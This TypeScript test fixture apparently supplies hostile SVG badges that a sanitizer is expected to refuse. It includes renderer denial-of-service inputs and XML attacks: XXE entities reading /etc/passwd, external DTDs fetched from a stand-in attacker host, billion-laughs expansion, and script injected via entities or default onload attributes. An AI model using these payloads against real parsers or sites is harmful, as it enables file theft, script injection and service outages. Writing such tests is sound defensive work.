import { badge, DRAWING, EVIL, type HostileBadge, NAMESPACES, RUN, XHTML } from './hostile-badge.ts';

const circle = (attributes: string, inside = '') => `<circle r="10" fill="none" stroke="red" ${attributes}>${inside}</circle>`;
const pattern = (attributes: string) =>
  `<pattern id="p" ${attributes}><circle r="1"/></pattern><rect width="24" height="24" fill="url(#p)"/>`;
const filtered = (parts: string, times = 1) => `<filter id="f">${parts}</filter>${'<g filter="url(#f)"/>'.repeat(times)}`;

/** Badges that would keep a browser busy for seconds, or forever. */
export const TOILSOME: HostileBadge[] = [
  ...[
    { name: 'a hundred lines of tiny dashes', svg: badge(circle('stroke-dasharray="0.001"').repeat(100)) },
    { name: 'a line of tiny dashes', svg: badge(circle('stroke-dasharray="0.0001 1e-9"')) },
    { name: 'tiny dashes in a style', svg: badge(circle('style="stroke-dasharray : .0001px"')) },
    { name: 'tiny dashes that a group hands on', svg: badge(`<g stroke-dasharray="0.0001">${circle('')}</g>`) },
    { name: 'tiny dashes that a use hands on', svg: badge(`<g id="c">${circle('')}</g><use href="#c" stroke-dasharray="0.0001"/>`) },
    { name: 'tiny dashes that are set', svg: badge(circle('', '<set attributeName="stroke-dasharray" to="0.0001"/>')) },
    { name: 'dashes that shrink', svg: badge(circle('', '<animate attributeName="stroke-dasharray" values="9;0" dur="9s"/>')) },
    { name: 'dashes that are a part of the letters', svg: badge(circle('font-size="0.0001" stroke-dasharray="1em"')) },
    { name: 'dashes that are calculated', svg: badge(circle('stroke-dasharray="calc(1px / 10000)"')) },
    { name: 'dashes of the screen', svg: badge(circle('stroke-dasharray="1" vector-effect="non-scaling-stroke" transform="scale(1e6)"')) },
    { name: 'dashes on a long way', svg: badge('<path stroke="red" stroke-dasharray="1" d="M0 0H1e6"/>') },
    { name: 'dashes on a long way there and back', svg: badge(`<path stroke-dasharray="1" d="M9999 0${'H0z'.repeat(99)}"/>`) },
    { name: 'dashes on a long way that is animated', svg: badge(circle('stroke-dasharray="1"', '<set attributeName="r" to="1e6"/>')) },
    { name: 'dashes on an endless way', svg: badge('<path stroke-dasharray="1" d="M0 0L1e999 0L0 0"/>') },
    { name: 'dashes on a huge arc', svg: badge('<path stroke-dasharray="1" d="M0 0A1 99999 0 0 1 99 0"/>') },
    { name: 'dashes on a way that is said to be long', svg: badge(circle('stroke-dasharray="1" pathLength="1e9"')) },
    { name: 'dashes on a huge letter', svg: badge('<text font-size="99999" stroke-dasharray="1">x</text>') },
    {
      name: 'dashes on letters that grow',
      svg: badge(`<text stroke-dasharray="1">${'<tspan font-size="9em">'.repeat(9)}x${'</tspan>'.repeat(9)}</text>`),
    },
    {
      name: 'dashes that are drawn again and again',
      svg: badge(`<g id="c">${circle('stroke-dasharray="0.1"')}</g>${'<use href="#c"/>'.repeat(999)}`),
    },
    { name: 'a long path again and again', svg: badge(`<path id="c" d="M0 0${'h1v1'.repeat(5000)}"/>${'<use href="#c"/>'.repeat(999)}`) },
    { name: 'a long text again and again', svg: badge(`<text id="c">${'x'.repeat(9999)}</text>${'<use href="#c"/>'.repeat(999)}`) },
    { name: 'tiny tiles', svg: badge(pattern('width="0.001" height="0.001" patternUnits="userSpaceOnUse"')) },
    { name: 'tiny tiles of a box', svg: badge(pattern('width="0.0001" height="0.01%"')) },
    {
      name: 'tiles that are made tiny',
      svg: badge(pattern('width="1" height="1" patternTransform="scale(.01) rotate(3) matrix(.1 0 0 .1 0 0)"')),
    },
    {
      name: 'tiles that become tiny',
      svg: badge(pattern('width="1" height="1"').replace('><', '><set attributeName="width" to="1e-9"/><')),
    },
    {
      name: 'tiny tiles by another name',
      svg: badge(`<pattern id="q" width="1e-4" height="1e-4"/>${pattern('href="#q" patternUnits="userSpaceOnUse"')}`),
    },
    {
      name: 'a pattern of much for each of many',
      svg: badge(
        `<pattern id="p" width="1" height="1">${'<g/>'.repeat(500)}</pattern><g fill="url(#p)">${'<circle r="1"/>'.repeat(500)}</g>`,
      ),
    },
    { name: 'endless noise', svg: badge(filtered('<feTurbulence numOctaves="1000"/>')) },
    { name: 'noise again and again', svg: badge(filtered('<feTurbulence/>', 500)) },
    { name: 'noise that grows', svg: badge(filtered('<feTurbulence><set attributeName="numOctaves" to="999"/></feTurbulence>')) },
    { name: 'a huge matrix', svg: badge(filtered('<feConvolveMatrix order="100 100" kernelMatrix="1"/>')) },
    { name: 'huge dots', svg: badge(filtered('<feMorphology operator="dilate" radius="1000"/>')) },
    { name: 'a filter of a filter of a filter', svg: badge(filtered('<feGaussianBlur stdDeviation="9"/>'.repeat(600))) },
    { name: 'filters of functions', svg: badge(`<g style="filter:${'blur(9px) '.repeat(500)}"/>`) },
    { name: 'layers on layers', svg: badge('<g opacity=".9"/>'.repeat(2500)) },
    { name: 'thousands of animations', svg: badge('<g><animate attributeName="x" to="9" dur="1s"/></g>'.repeat(1100)) },
    {
      name: 'animations that wait for each other and take no time',
      svg: badge(
        '<set id="a" attributeName="x" to="1" begin="0s;b.end" dur="0.0001ms"/><set id="b" attributeName="x" to="1" begin="a.end" dur="1e-9s" max="0.001s"/>',
      ),
    },
  ].map((one) => ({ ...one, refused: true as const })),
];

const doubling = (element: (target: string) => string) =>
  badge(Array.from({ length: 30 }, (_, level) => `<g id="n${level + 1}">${element(`#n${level}`).repeat(2)}</g>`).join(''));
const entities = Array.from({ length: 9 }, (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`).join('');

export const REFUSED: HostileBadge[] = [
  ...[
    { name: 'nothing', svg: '' },
    { name: 'blanks', svg: ' \n' },
    { name: 'plain text', svg: 'Gold' },
    { name: 'JSON', svg: '{"svg":"<svg/>"}' },
    { name: 'HTML', svg: `<html ${XHTML}><body><svg ${NAMESPACES}/></body></html>` },
    { name: 'a script alone', svg: `<script ${NAMESPACES}>${RUN}</script>` },
    { name: 'svg of another namespace', svg: `<svg ${XHTML}>${DRAWING}</svg>` },
    { name: 'svg behind a prefix of something else', svg: `<x:svg xmlns:x="urn:x">${DRAWING}</x:svg>` },
    { name: 'svg that denies its namespace', svg: `<svg xmlns="">${DRAWING}</svg>` },
    { name: 'SVG in capitals', svg: `<SVG ${NAMESPACES}/>` },
    { name: 'an open element', svg: `<svg ${NAMESPACES}><g>` },
    { name: 'elements that cross', svg: badge('<g><a></g></a>') },
    { name: 'two roots', svg: badge('').repeat(2) },
    { name: 'text after the end', svg: `${badge('')}<!-- --> ${RUN}` },
    { name: 'an attribute without quotes', svg: badge('<g fill=red/>') },
    { name: 'an attribute twice', svg: badge('<g fill="red" fill="blue"/>') },
    { name: 'an attribute twice by namespace', svg: badge('<g xmlns:a="urn:x" xmlns:b="urn:x" a:y="" b:y=""/>') },
    { name: 'a prefix of nothing', svg: badge('<x:g/>') },
    { name: 'a bare ampersand', svg: badge('<text>Gold & more</text>') },
    { name: 'a character that XML has not', svg: badge('<text>\u0001</text>') },
    { name: 'NUL', svg: badge('<text>\u0000</text>') },
    { name: 'a reference to a character that XML has not', svg: `<?xml version="1.1"?>${badge('<text>&#1;</text>')}` },
    { name: 'half a character', svg: badge('<text>\ud83d</text>') },
    { name: 'half a character that hides a tag', svg: badge('\ud83d</text>') },
    { name: 'a comment that does not end', svg: badge('<!-- ') },
    { name: 'an unknown entity', svg: badge('<text>&nbsp;</text>') },
    { name: 'a document type with an empty inside', svg: `<!DOCTYPE svg []>${badge('')}` },
    { name: 'a document type that hides its inside', svg: `<!DOCTYPE svg SYSTEM "x" [<!ENTITY x "y">]>${badge('')}` },
    { name: 'a document type twice', svg: `<!DOCTYPE svg><!DOCTYPE svg>${badge('')}` },
    { name: 'a document type inside', svg: badge('<!DOCTYPE svg>') },
    { name: 'a document type that is none', svg: `<!DOCTYPE svg PUBLIC>${badge('')}` },
    { name: 'an entity of a document type from elsewhere', svg: `<!DOCTYPE svg SYSTEM "${EVIL}/x.dtd">${badge('<text>&x;</text>')}` },
    { name: 'an entity', svg: `<!DOCTYPE svg [<!ENTITY x "<script>${RUN}</script>">]>${badge('&x;')}` },
    { name: 'an entity from elsewhere', svg: `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${badge('<text>&x;</text>')}` },
    { name: 'an entity of parameters', svg: `<!DOCTYPE svg [<!ENTITY % x SYSTEM "${EVIL}/x.dtd"> %x;]>${badge('')}` },
    { name: 'a billion laughs', svg: `<!DOCTYPE svg [<!ENTITY l0 "ha">${entities}]>${badge('<text>&l9;</text>')}` },
    { name: 'an attribute by default', svg: `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${RUN}">]>${badge('')}` },
    { name: '64 KiB and a byte', svg: badge('').padEnd(65_537) },
    { name: '64 KiB and more in fewer characters', svg: badge(`<title>${'é'.repeat(32_768)}</title>`) },
    { name: '64 KiB and more after it was written anew', svg: badge(`<g aria-label='${'"'.repeat(60_000)}'/>`) },
    { name: 'a billion uses', svg: doubling((target) => `<use href="${target}"/>`) },
    { name: 'a billion uses by xlink', svg: doubling((target) => `<use xlink:href="${target}"/>`) },
    { name: 'a billion masks', svg: doubling((target) => `<g mask="url(${target})"/>`) },
    { name: 'a billion fills in styles', svg: doubling((target) => `<g style="fill:url('${target}')"/>`) },
    { name: 'a use of itself', svg: badge('<g id="a"><use href="#a"/></g>') },
    { name: 'many uses of much', svg: badge(`<g id="a">${'<g/>'.repeat(1000)}</g>${'<use href="#a"/>'.repeat(1000)}`) },
    {
      name: 'much behind a name that is used twice',
      svg: badge(`<g id="a">${'<g/>'.repeat(1000)}</g><g id="a"/>${'<use href="#a"/>'.repeat(1000)}`),
    },
    { name: 'deep nests', svg: badge(`${'<g>'.repeat(9000)}${'</g>'.repeat(9000)}`) },
  ].map((one) => ({ ...one, refused: true as const })),
];
